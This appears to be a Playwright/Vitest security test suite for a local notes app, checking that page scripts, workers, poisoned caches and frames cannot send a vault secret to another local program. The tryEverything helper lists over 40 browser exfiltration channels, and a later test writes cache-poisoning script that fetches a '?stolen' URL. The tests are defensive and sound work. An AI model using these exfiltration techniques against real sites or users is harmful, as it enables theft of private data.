import { readdir, readFile } from 'node:fs/promises';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright';
import { expect, it, onTestFinished } from 'vitest';
import { serveSite } from '../scripts/steps/static-server.mjs';
import { button } from './harness/assistant.ts';
import { makePdf } from './harness/make-pdf.ts';
import { startLatent } from './harness.ts';
import { IS_LONG_RUN } from './harness/long-run.ts';

const DIST = process.env.LATENT_DIST ?? fileURLToPath(new URL('../dist', import.meta.url));
const SECRET = 'the-cellar-door-code';

/** Another program on this machine, on its own port, that records each connection. */
async function startOtherProgram(
  page = '<!doctype html>',
): Promise<{ readonly origin: string; readonly seen: string[] }> {
  const seen: string[] = [];
  const note = ({ method, url }: IncomingMessage) => void seen.push(`${method} ${url}`);
  const server = createServer((request, response) => {
    note(request);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(page);
  });
  server.on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, seen };
}

/** Tries every way by which a script of the page could reach another program. @returns the names of the ways */
async function tryEverything(page: Page, origin: string): Promise<string[]> {
  return page.evaluate(
    async ([to, secret]) => {
      const at = (way: string) => `${to}/${way}?${secret}`;
      const put = (tag: string, fields: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value);
        document.body.append(element);
        return element;
      };
      const style = (css: string) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(css);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      };
      const scope = window as unknown as Record<
        string,
        new (...parameters: unknown[]) => {
          createDataChannel?(name: string): void;
          createOffer?(): Promise<unknown>;
          setLocalDescription?(offer: unknown): Promise<void>;
        }
      >;
      const ways: Record<string, () => unknown> = {
        fetch: () => fetch(at('fetch')),
        'fetch-no-cors': () =>
          fetch(at('fetch-no-cors'), { method: 'POST', mode: 'no-cors', body: secret, keepalive: true }),
        beacon: () => navigator.sendBeacon(at('beacon'), secret),
        xhr: () => {
          const request = new XMLHttpRequest();
          request.open('POST', at('xhr'));
          request.send(secret);
        },
        socket: () => new WebSocket(at('socket').replace('http', 'ws')),
        events: () => new EventSource(at('events')),
        transport: () => new scope.WebTransport!(at('transport').replace('http:', 'https:')),
        'fetch-later': () =>
          (window as unknown as { fetchLater?: (url: string, init: object) => void }).fetchLater?.(at('fetch-later'), {
            activateAfter: 0,
          }),
        webrtc: async () => {
          const peer = new scope.RTCPeerConnection!({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
          peer.createDataChannel?.('x');
          await peer.setLocalDescription?.(await peer.createOffer?.());
        },
        image: () => put('img', { src: at('image') }),
        picture: () => put('img', { srcset: at('picture') }),
        svg: () => (put('div', {}).innerHTML = `<svg><image href="${at('svg')}"/></svg>`),
        video: () => put('video', { src: at('video'), poster: at('poster') }),
        audio: () => new Audio(at('audio')).play(),
        frame: () => put('iframe', { src: at('frame') }),
        'frame-text': () => put('iframe', { srcdoc: `<img src="${at('frame-text')}">` }),
        object: () => put('object', { data: at('object') }),
        embed: () => put('embed', { src: at('embed') }),
        script: () => put('script', { src: at('script') }),
        module: () => import(/* @vite-ignore */ at('module')),
        worker: () => new Worker(at('worker')),
        'worker-blob': () => new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker-blob')}')`]))),
        'service-worker': () => navigator.serviceWorker.register(at('service-worker')),
        stylesheet: () => put('link', { rel: 'stylesheet', href: at('stylesheet') }),
        style: () => (put('style', {}).textContent = `body{background:url(${at('style')})}`),
        'style-attribute': () => put('div', { style: `background:url(${at('style-attribute')})` }),
        'style-adopted': () => style(`#app{background:url(${at('style-adopted')})}`),
        'style-import': () => style(`@import url(${at('style-import')});`),
        font: () => new FontFace('x', `url(${at('font')})`).load(),
        cursor: () => (document.body.style.cursor = `url(${at('cursor')}), auto`),
        prefetch: () => put('link', { rel: 'prefetch', href: at('prefetch') }),
        preload: () => put('link', { rel: 'preload', as: 'fetch', href: at('preload') }),
        modulepreload: () => put('link', { rel: 'modulepreload', href: at('modulepreload') }),
        icon: () => put('link', { rel: 'icon', href: at('icon') }),
        manifest: () => put('link', { rel: 'manifest', href: at('manifest') }),
        speculation: () =>
          (put('script', { type: 'speculationrules' }).textContent = JSON.stringify({
            prefetch: [{ urls: [at('speculation')] }],
            prerender: [{ urls: [at('prerender')] }],
          })),
        form: () => {
          const form = put('form', { action: at('form'), method: 'post' }) as HTMLFormElement;
          form.submit();
        },
        'form-frame': () => {
          const form = put('form', { action: at('form-frame'), target: 'somewhere' }) as HTMLFormElement;
          put('iframe', { name: 'somewhere' });
          form.submit();
        },
        ping: () => put('a', { href: '#here', ping: at('ping') }).click(),
        download: () => put('a', { href: at('download'), download: 'x' }).click(),
        link: () => put('a', { href: at('link') }).click(),
        refresh: () =>
          document.head.append(
            Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${at('refresh')}` }),
          ),
        location: () => (location.href = at('location')),
        replace: () => location.replace(at('replace')),
      };
      for (const way of Object.values(ways))
        await Promise.race([
          Promise.resolve()
            .then(way)
            .catch(() => undefined),
          new Promise((resolve) => setTimeout(resolve, 200)),
        ]);
      return Object.keys(ways);
    },
    [origin, SECRET] as const,
  );
}

it('stops scripts of the page from reaching another program by any request, link, style, worker, form or navigation', async () => {
  const latent = await startLatent({ vault: { 'Door.md': `# Door\n\n${SECRET}\n` }, isKeptForLater: true });
  await latent.openVault();
  const otherProgram = await startOtherProgram();
  // The test expects violations of the policy.
  latent.watch.allow(/./su);
  latent.watch.allowOrigin(otherProgram.origin);
  const { page } = latent;
  const before = page.url();

  const tried = await tryEverything(page, otherProgram.origin);
  expect(tried.length).toBeGreaterThan(40);
  // There is no event to wait for when nothing is sent; an allowed request would arrive within this time.
  await page.waitForTimeout(500);
  expect(otherProgram.seen).toEqual([]);
  expect(page.url().replace(/#.*/u, '')).toBe(before.replace(/#.*/u, ''));
  expect(await page.evaluate(() => window.latent.status().vault)).toBe('vault');
});

it('sends nothing for a script that starts a network worker of its own, but to a host in the settings, and lists that', async () => {
  const latent = await startLatent({ vault: { 'Door.md': `# Door\n\n${SECRET}\n` }, isKeptForLater: true });
  await latent.openVault();
  const { page } = latent;
  const [stranger, mine] = [await startOtherProgram(), await startOtherProgram()];
  for (const { origin } of [stranger, mine]) latent.watch.allowOrigin(origin);
  await page.evaluate(
    (baseUrl) => window.latent.configure({ provider: 'openai-compatible', baseUrl, model: 'm' }),
    `${mine.origin}/v1`,
  );
  await button(page, /^Nothing sent: nothing has left this browser/u).waitFor();
  const [file] = (await readdir(join(DIST, 'network'))).filter((name) => name.startsWith('network.worker'));

  /** As such a script would: each answer that the worker may wait for is given, in the present form and an earlier one. */
  const attack = (origin: string, init: object) =>
    page.evaluate(
      async ([worker, to, secret, request]) => {
        const own = new Worker(`./network/${worker}`, { type: 'module', name: 'latent-network' });
        own.onmessage = ({ data }: MessageEvent<{ planned?: { id: string } }>) => {
          for (const type of ['decision', 'answer']) own.postMessage({ type, id: data.planned?.id, isAllowed: true });
        };
        const { port1, port2 } = new MessageChannel();
        own.postMessage({ type: 'vault', id: 'none of this name' });
        own.postMessage({ type: 'connect', port: port2, isAllowed: true, hosts: [to] }, [port2]);
        const body = new TextEncoder().encode(secret).buffer;
        const answer = new Promise<string>((resolve) => {
          port1.onmessage = ({ data }: MessageEvent<{ type: string }>) => data.type !== 'done' && resolve(data.type);
          setTimeout(() => resolve('nothing'), 5_000);
        });
        port1.postMessage({
          type: 'request',
          id: 1,
          about: { reason: 'answer', isAllowed: true },
          url: `${to}/?${secret}`,
          method: 'GET',
          headers: [],
          mode: 'cors',
          cache: 'default',
          redirect: 'follow',
          ...('body' in request ? { ...request, body } : request),
        });
        const got = await answer;
        own.terminate();
        return got;
      },
      [file, origin, SECRET, init] as const,
    );
  for (const init of [
    {},
    { method: 'POST', body: true },
    { method: 'PUT', body: true, about: { reason: 'login' } },
    { mode: 'no-cors', method: 'POST', body: true },
    { about: { reason: 'download' }, redirect: 'manual' },
    { url: `${stranger.origin.replace('http://', `http://${new URL(mine.origin).host}@`)}/?${SECRET}` },
  ])
    expect(await attack(stranger.origin, init), JSON.stringify(init)).toBe('failed');
  expect(stranger.seen).toEqual([]);
  await button(page, /^Nothing sent: nothing has left this browser/u).waitFor();

  expect(await attack(mine.origin, {})).toBe('response');
  expect(mine.seen).toEqual([`GET /?${SECRET}`]);
  await page.getByRole('button', { name: /1 request went to a program on it/u }).waitFor();
});

/** The app on a host that sends no headers, and another program that must hear nothing of it. */
async function startOnBareHost() {
  const bare = await serveSite({ root: DIST, headers: {} });
  const stranger = await startOtherProgram();
  const latent = await startLatent({ isKeptForLater: true });
  onTestFinished(() => bare.close());
  latent.watch.allow(/./su);
  for (const origin of [bare.url, stranger.origin]) latent.watch.allowOrigin(new URL(origin).origin);
  return { bare, stranger, latent };
}

interface PdfLibrary {
  getDocument(options: object): {
    readonly promise: Promise<{ getPage(at: number): Promise<{ getOperatorList(): Promise<{ fnArray: unknown[] }> }> }>;
  };
  readonly PDFWorker: new (options: object) => unknown;
}

it('sends nothing from any file of the build that is started as a worker, on a host that sends no policy', async () => {
  const { bare, stranger, latent } = await startOnBareHost();
  const folders = ['', 'assets/', 'network/'];
  const files = (
    await Promise.all(folders.map(async (at) => (await readdir(join(DIST, at))).map((name) => at + name)))
  ).flat();
  const scripts = files.filter((name) => /\.m?js$/u.test(name));
  const texts = await Promise.all(scripts.map((name) => readFile(join(DIST, name), 'utf8')));
  const takers = scripts.filter(
    (_, at) => /message/u.test(texts[at]!) && /\b(?:self|globalThis|addEventListener|onmessage)\b/u.test(texts[at]!),
  );
  expect(takers.length).toBeGreaterThan(12);
  // Outside the long run those that the app itself starts as workers.
  const tried = takers.filter((name) => IS_LONG_RUN || name.includes('.worker-'));
  expect(tried.length).toBeGreaterThan(5);
  const find = (name: string) => scripts.find((script) => script.startsWith(name))!;

  const page = await latent.context.newPage();
  // A file that is no page of the app: without its policy, and without the service worker.
  await page.goto(`${bare.url}licences.txt`);
  await page.evaluate(
    async ([names, to]) => {
      const apply = (path: string, ...values: unknown[]) => ({
        id: path,
        type: 'APPLY',
        path: [path],
        argumentList: values.map((value) => ({ type: 'RAW', value })),
      });
      const model = { modelId: 'a/b', localModels: `${to}/models/`, mayDownload: true, localOnly: false };
      const messages = [
        {
          type: 'init-wasm',
          in: { wasm: { numThreads: 1, wasmPaths: { mjs: `${to}/ort.mjs`, wasm: `${to}/ort.wasm` } } },
        },
        { cmd: 'load', urlOrBlob: `${to}/thread.mjs`, handlers: [] },
        apply('load', model, { RAW: 1 }),
        apply('open', { vaultId: 'x', folder: to, model: { endpoint: { url: to, model: 'm', consent: true } } }),
        apply('look', `${to}/backup`),
        { type: 'connect', port: to, url: to },
      ];
      const roles: readonly (readonly [RegExp, readonly string[]])[] = [
        [/transformers/u, ['ort-wasm-proxy-worker']],
        [/ort-wasm/u, ['em-pthread']],
        [/model\.worker/u, ['latent-embed', 'latent-rerank', 'latent-generate']],
      ];
      const answered: Promise<unknown>[] = [];
      const started = names.flatMap((name) => {
        const named = roles.find(([pattern]) => pattern.test(name))?.[1] ?? [''];
        return named.map((role) => {
          const worker = new Worker(`/${name}`, { type: 'module', name: role });
          // What answers has tried: the runtime tells of each failure.
          if (role.startsWith('ort')) answered.push(new Promise((resolve) => (worker.onmessage = resolve)));
          return worker;
        });
      });
      for (const worker of started) for (const message of messages) worker.postMessage(message);
      await Promise.all([...answered, new Promise((resolve) => setTimeout(resolve, 3_000))]);
      for (const worker of started) worker.terminate();
    },
    [tried, stranger.origin] as const,
  );
  // pdf.js fetches fonts, tables and decoders from wherever it is told.
  const pdf = [...makePdf(['Words in a font that is not in the file'])];
  await page.addScriptTag({
    type: 'module',
    content: `import * as library from '/${find('assets/pdf.min')}'; window.library = library;`,
  });
  await page.waitForFunction(() => 'library' in window);
  const read = await page.evaluate(
    async ([worker, bytes, to]) => {
      const { library } = window as unknown as { library: PdfLibrary };
      const port = new Worker(`/${worker}`, { type: 'module' });
      const urls = {
        standardFontDataUrl: `${to}/fonts/`,
        cMapUrl: `${to}/maps/`,
        wasmUrl: `${to}/wasm/`,
        iccUrl: `${to}/icc/`,
      };
      const options = { useWorkerFetch: true, useSystemFonts: false, disableFontFace: true, cMapPacked: true };
      const opened = await library.getDocument({
        data: new Uint8Array(bytes),
        worker: new library.PDFWorker({ port }),
        ...options,
        ...urls,
      }).promise;
      return (await (await opened.getPage(1)).getOperatorList()).fnArray.length;
    },
    [find('assets/pdf.worker'), pdf, stranger.origin] as const,
  );
  expect(read).toBeGreaterThan(0);
  expect(stranger.seen).toEqual([]);
});

it.runIf(IS_LONG_RUN)(
  'gives out no page and no worker without its policy, whatever a script wrote into the caches',
  async () => {
    // The service worker alone adds them.
    const { bare, stranger, latent } = await startOnBareHost();
    const page = await latent.context.newPage();
    await page.goto(bare.url);
    // All of the app is put into the cache first.
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 60_000 });
    const written = await page.evaluate(async (to) => {
      const script = `fetch('${to}/?stolen', { mode: 'no-cors' }).catch(() => {}); import('${to}/import').catch(() => {});`;
      const put = async (cache: Cache, key: RequestInfo, type: string, body: string) =>
        cache.put(key, new Response(body, { headers: { 'content-type': type } }));
      let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const key of await cache.keys()) {
          if (/\.js(?:\?|$)/u.test(key.url)) await put(cache, key, 'text/javascript', script);
          else if (/\.html(?:\?|$)/u.test(key.url))
            await put(cache, key, 'text/html', `<!doctype html><script>${script}</script><img src="${to}/image">`);
          else continue;
          count += 1;
        }
        await put(cache, './models/own.js', 'text/javascript', script);
      }
      return count;
    }, stranger.origin);
    expect(written).toBeGreaterThan(100);
    const workers = (await readdir(join(DIST, 'assets'))).filter((name) => name.includes('.worker-'));
    const [network] = await readdir(join(DIST, 'network'));
    await page.evaluate(
      async (names) => {
        const started = names.map((name) => new Worker(name, { type: 'module' }));
        await new Promise((resolve) => setTimeout(resolve, 2_000));
        for (const worker of started) worker.terminate();
      },
      [...workers.map((name) => `./assets/${name}`), `./network/${network}`, './models/own.js'],
    );
    expect(stranger.seen).toEqual([]);
    for (const path of ['', '#/note/A.md', 'log-in.html#1']) {
      await page.goto('about:blank');
      await page.goto(bare.url + path);
      await page.waitForTimeout(500);
    }
    expect(stranger.seen).toEqual([]);
  },
);

it('does not start inside a frame, whether or not its host sends headers', async () => {
  const bare = await serveSite({ root: DIST, headers: {} });
  onTestFinished(() => bare.close());
  const latent = await startLatent({ vault: { 'Door.md': SECRET }, isKeptForLater: true });
  await latent.openVault();
  latent.watch.allow(/frame-ancestors|X-Frame-Options|chrome-error/u);
  for (const [url, shown] of [
    [latent.url, /^$/u],
    [bare.url, /Latent does not run inside another page/u],
  ] as const) {
    const otherProgram = await startOtherProgram(
      `<!doctype html><iframe src="${url}" width="900" height="600"></iframe>`,
    );
    latent.watch.allowOrigin(otherProgram.origin);
    latent.watch.allowOrigin(new URL(url).origin);
    const outside = await latent.context.newPage();
    await outside.goto(otherProgram.origin);
    await outside.waitForLoadState('load');
    const frame = outside.frames()[1]!;
    const text = () => frame.evaluate(() => document.body.innerText).catch(() => '');
    await expect.poll(async () => (await text()).replace(/.*refused to connect.*|.*blocked.*/isu, '')).toMatch(shown);
    expect(
      await frame.evaluate(() => 'latent' in window || document.querySelector('#app') !== null).catch(() => false),
    ).toBe(false);
    await outside.close();
  }
});

it('is served with headers that isolate it from other sites, by the host and by the service worker', async () => {
  const latent = await startLatent({ isKeptForLater: true });
  const read = () => latent.page.evaluate(async () => Object.fromEntries((await fetch('./')).headers));
  const expected = {
    'content-security-policy': expect.stringContaining("frame-ancestors 'none'") as string,
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'no-referrer',
    'permissions-policy': expect.stringContaining('camera=()') as string,
  };
  expect(await read()).toMatchObject(expected);
  await latent.page.getByText('Latent works offline now.').waitFor({ timeout: 60_000 });
  await latent.stopServer();
  await latent.reload();
  expect(await read()).toMatchObject(expected);
});

it('asks before a script allows more hosts than the person set up, and accepts a model on this machine without asking', async () => {
  const latent = await startLatent({ vault: { 'A.md': 'x' } });
  await latent.openVault();
  const { page } = latent;
  await page.evaluate(() =>
    window.latent.configure({
      provider: 'openai-compatible',
      baseUrl: 'http://127.0.0.1:1/v1',
      model: 'm',
      apiKey: 'k',
    }),
  );
  expect(await page.getByRole('dialog').count()).toBe(0);

  const answer = page.evaluate(() =>
    window.latent.configure({ baseUrl: 'https://elsewhere.example/v1', trustAgents: true }).then(
      () => 'changed',
      (error: Error) => error.message,
    ),
  );
  const dialog = page.getByRole('dialog', { name: 'A script wants to change your settings' });
  await dialog.getByText('send your questions, and the notes that they are about, to elsewhere.example').waitFor();
  await dialog.getByText('let agents of the browser read your notes without asking you').waitFor();
  await button(page, 'Do not allow').click();
  expect(await answer).toContain('did not allow');
  await dialog.waitFor({ state: 'detached' });

  const second = page.evaluate(() =>
    window.latent.configure({ baseUrl: 'https://elsewhere.example/v1' }).then(() => 'changed'),
  );
  await button(page, 'Allow').click();
  expect(await second).toBe('changed');
});
